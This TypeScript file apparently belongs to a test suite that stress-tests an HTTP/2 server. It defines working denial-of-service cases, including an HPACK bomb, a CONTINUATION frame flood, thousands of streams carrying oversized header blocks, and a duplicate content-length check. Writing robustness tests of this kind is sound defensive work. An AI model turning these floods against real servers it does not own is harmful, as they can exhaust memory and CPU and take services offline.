import { Flag, FRAME_HEADER_BYTES, FrameType } from '../../../src/h2/http2/frames.ts';
import { encodeFields } from '../../../src/h2/http2/hpack/encode.ts';
import { callFields, data, frame, framed } from '../../../test/helpers/h2-client.ts';
import { HpackEncoder } from '../../../test/helpers/hpack-encoder.ts';
import { range } from '../../tables/figures.ts';
import { type Attack, type Attacker, crowd } from '../attack.ts';
import type { Http2Client } from '../http2-client.ts';
import { ordinaryMessage } from '../messages.ts';

/** The index of the newest entry of the dynamic table. */
const NEWEST = 0xbe;

const END = Flag.END_HEADERS | Flag.END_STREAM;

const plain = encodeFields(callFields());
const body = framed(ordinaryMessage('headers'));

/** Puts a field of 4,000 bytes into the dynamic table with a complete call. */
async function plantField(client: Http2Client): Promise<void> {
  const field = new HpackEncoder().field(['planted', 'p'.repeat(4_000)], 'indexing', false);
  const id = client.takeStreams(1);
  await client.send(
    Buffer.concat([
      frame(FrameType.HEADERS, Flag.END_HEADERS, id, Buffer.concat([plain, field])),
      data(id, body, true),
    ]),
    body.length,
  );
}

/** Repeats requests with this header block. */
const blocks =
  (block: Buffer, flags: number, plants: boolean): Attack['prepare'] =>
  () =>
  (attacker) =>
    crowd(attacker, 2, async () => {
      const client = await attacker.http2();
      if (plants) await plantField(client);
      for (let isOpen = true; isOpen && !attacker.isOver; ) {
        const first = client.takeStreams(4);
        const frames = range(4).map((at) => frame(FrameType.HEADERS, flags, first + at * 2, block));
        isOpen = await client.send(Buffer.concat(frames));
      }
    });

/** A header block that these frames continue until the connection ends. */
const continued =
  (part: Buffer): Attack['prepare'] =>
  () => {
    const fill = encodeFields([['filler', 'f'.repeat(16_000)]]);
    const start = Buffer.concat([
      frame(FrameType.HEADERS, 0, 1, fill),
      ...range(3).map(() => frame(FrameType.CONTINUATION, 0, 1, fill.subarray(0, 16_000))),
    ]);
    const piece = Buffer.concat(range(2_000).map(() => frame(FrameType.CONTINUATION, 0, 1, part)));
    return (attacker: Attacker) =>
      crowd(attacker, 4, async () => {
        const client = await attacker.http2();
        if (!(await client.send(start))) return;
        while (!attacker.isOver && (await client.send(piece)));
      });
  };

/** Calls of an unknown method whose long path is in the dynamic table, at 13 bytes each. */
const longPath = (): ReturnType<Attack['prepare']> => {
  const fields = callFields({ ':path': `/${'%'.repeat(3_700)}`, ':authority': '', te: '' });
  const encoder = new HpackEncoder();
  const planted = Buffer.concat(fields.map((field) => encoder.field(field, 'indexing', false)));
  const block = Buffer.from(fields.map((_, at) => NEWEST + fields.length - 1 - at));
  const count = Math.floor(64_000 / (FRAME_HEADER_BYTES + block.length));
  return (attacker) =>
    crowd(attacker, 4, async () => {
      const client = await attacker.http2();
      let isOpen = await client.send(frame(FrameType.HEADERS, END, client.takeStreams(1), planted));
      while (isOpen && !attacker.isOver) {
        const first = client.takeStreams(count);
        const frames = range(count).map((at) => frame(FrameType.HEADERS, END, first + at * 2, block));
        isOpen = await client.send(Buffer.concat(frames));
      }
    });
};

/** Costly header blocks. */
export const headers: readonly Attack[] = [
  { name: 'a path of 3,700 characters by reference, of a method that does not exist', prepare: longPath },
  {
    name: 'HPACK bomb: 16,000 references to a field of 4,000 bytes a request',
    prepare: blocks(Buffer.concat([plain, Buffer.alloc(16_000, NEWEST)]), END, true),
  },
  {
    name: 'headers of 60 KB by reference on 9,900 open streams of 3 connections',
    prepare: () => {
      const block = Buffer.concat([plain, Buffer.alloc(14, NEWEST)]);
      return (attacker) =>
        crowd(attacker, 3, async () => {
          const client = await attacker.http2();
          await plantField(client);
          while (client.begun < 9_900 && !attacker.isOver) {
            const first = client.takeStreams(100);
            const frames = range(100).map((at) => frame(FrameType.HEADERS, Flag.END_HEADERS, first + at * 2, block));
            if (!(await client.send(Buffer.concat(frames)))) return;
          }
          await Promise.race([client.tcp.closed, attacker.over]);
        });
    },
  },
  {
    name: 'headers of 15 KB on 2,000 open streams of 4 connections',
    prepare: () => {
      const block = Buffer.concat([plain, encodeFields([['filler', 'f'.repeat(15_000)]])]);
      return (attacker) =>
        crowd(attacker, 4, async () => {
          const client = await attacker.http2();
          while (client.begun < 2_000 && !attacker.isOver) {
            const first = client.takeStreams(4);
            const frames = range(4).map((at) => frame(FrameType.HEADERS, Flag.END_HEADERS, first + at * 2, block));
            if (!(await client.send(Buffer.concat(frames)))) return;
          }
          await Promise.race([client.tcp.closed, attacker.over]);
        });
    },
  },
  {
    name: 'headers of 500 fields each',
    prepare: blocks(Buffer.concat([plain, ...range(500).map((at) => encodeFields([[`f${at}`, 'v']]))]), END, false),
  },
  { name: 'CONTINUATION of 0 bytes after a block of 64 KB', prepare: continued(Buffer.alloc(0)) },
  {
    name: 'two content-length fields that contradict each other',
    prepare: () => {
      const lengths = [body.length, body.length + 1].map((length) => encodeFields([['content-length', `${length}`]]));
      const block = Buffer.concat([plain, ...lengths]);
      return async (attacker) => {
        const client = await attacker.http2();
        const id = client.takeStreams(1);
        await client.send(Buffer.concat([frame(FrameType.HEADERS, Flag.END_HEADERS, id, block), data(id, body, true)]));
        await Promise.race([client.untilEnded(1), attacker.over]);
        if (client.resets === 0 && !client.isClosed) attacker.fault('accepts two lengths');
      };
    },
  },
];
